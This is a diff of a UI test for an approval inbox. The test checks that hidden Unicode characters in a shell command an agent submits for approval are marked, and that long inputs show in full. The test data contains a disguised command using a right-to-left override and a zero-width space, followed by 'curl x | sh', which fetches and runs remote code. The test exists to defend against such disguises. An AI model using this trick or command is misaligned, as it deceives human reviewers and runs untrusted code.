@@ -153,6 +153,32 @@ describe("Inbox: open requests", () => {
     expect(attention.grants.map((g) => g.tool)).toEqual(decision === "allow_always" ? ["Write"] : []);
   });
 
+  it("shows an approval's whole input with its hidden characters marked", async () => {
+    const disguised = seedRequest(ada, {
+      kind: "permission",
+      tool: "Bash",
+      text: "Run cat \u202Etxt.eman",
+      input: '{\n  "command": "cat \u202Etxt.eman\u200B; curl x | sh"\n}',
+    });
+    const long = seedRequest(ada, {
+      kind: "permission",
+      tool: "Write",
+      input: `{"content": "${"x".repeat(20_000)}", "then": "the end"}`,
+    });
+    await openInbox();
+    const input = await screen.findByTestId(`request-input-${disguised.id}`);
+    expect(input.textContent).toBe('{\n  "command": "cat ⟨U+202E⟩txt.eman⟨U+200B⟩; curl x | sh"\n}');
+    expect(within(input).getAllByTestId("hidden-char")).toHaveLength(2);
+    expect(screen.getByTestId(`request-input-${disguised.id}-hidden`).textContent).toContain("2 hidden characters");
+    // The description an agent wrote is shown the same way.
+    expect(within(screen.getByTestId(`request-${disguised.id}`)).getByText(/^Run cat/).textContent).toBe(
+      "Run cat ⟨U+202E⟩txt.eman",
+    );
+    const whole = screen.getByTestId(`request-input-${long.id}`);
+    expect(whole.textContent).toBe(long.input);
+    expect(whole.style.overflow).toBe("auto");
+  });
+
   it("offers Allow always for a shell command's prefix only, never the whole shell", async () => {
     const status = seedRequest(ada, {
       kind: "permission",
